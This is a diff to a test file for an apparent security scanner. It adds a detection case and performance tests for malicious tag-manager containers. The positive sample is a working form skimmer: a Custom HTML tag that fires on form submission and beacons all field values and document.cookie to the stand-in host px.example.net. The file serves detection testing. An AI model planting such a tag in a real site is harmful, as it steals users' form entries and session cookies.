@@ -89,6 +89,15 @@ describeRuleCases('tamper', [
 `,
   },
   {
+    // A tag manager's Custom HTML tag fired on every form submission: all fields and the cookies beaconed.
+    id: 'SG-TAMPER-018',
+    file: 'assets/gtm-container.json',
+    positive:
+      '{\n "containerVersion": {\n  "tag": [\n   {\n    "name": "t",\n    "type": "html",\n    "parameter": [\n     {\n      "type": "TEMPLATE",\n      "key": "html",\n      "value": "<script>\\n(function(){\\n  var f = {{Form Element}}; var d = {};\\n  for (var i = 0; i < f.elements.length; i++) { var e = f.elements[i]; d[e.name] = e.value; }\\n  new Image().src = \'https://px.example.net/c.gif?d=\' + encodeURIComponent(JSON.stringify(d)) + \'&c=\' + encodeURIComponent(document.cookie);\\n})();\\n</script>"\n     }\n    ],\n    "firingTriggerId": [\n     "11"\n    ]\n   }\n  ],\n  "trigger": [\n   {\n    "triggerId": "11",\n    "type": "FORM_SUBMISSION"\n   }\n  ]\n }\n}',
+    negative:
+      '{\n "containerVersion": {\n  "tag": [\n   {\n    "name": "t",\n    "type": "html",\n    "parameter": [\n     {\n      "type": "TEMPLATE",\n      "key": "html",\n      "value": "<script>\\n(function(){\\n  var f = {{Form Element}};\\n  window.dataLayer.push({event: \'form_sent\', form_id: f.id, fields: f.elements.length});\\n})();\\n</script>"\n     }\n    ],\n    "firingTriggerId": [\n     "11"\n    ]\n   }\n  ],\n  "trigger": [\n   {\n    "triggerId": "11",\n    "type": "FORM_SUBMISSION"\n   }\n  ]\n }\n}',
+  },
+  {
     id: 'SG-TAMPER-014',
     file: 'hotkeys.ahk',
     positive:
@@ -677,6 +686,19 @@ describe('adversarial page templates', () => {
     );
     const start = performance.now();
     findingsOf(text, 'snippets/a.liquid');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+
+  it.each([
+    ['tag parts', '"FORM_SUBMISSION" <script> .elements[ new Image( document.cookie '],
+    ['script openers', '<script '],
+    ['cookie reads', 'document.cookie = '],
+  ])('should scan a 1 MiB tag container of %s in under a second', (_name, unit) => {
+    const text = JSON.stringify({
+      tag: [{ key: 'html', value: unit.repeat(Math.ceil((1024 * 1024) / unit.length)) }],
+    });
+    const start = performance.now();
+    findingsOf(text, 'assets/gtm.json');
     expect(performance.now() - start).toBeLessThan(1000);
   });
 });
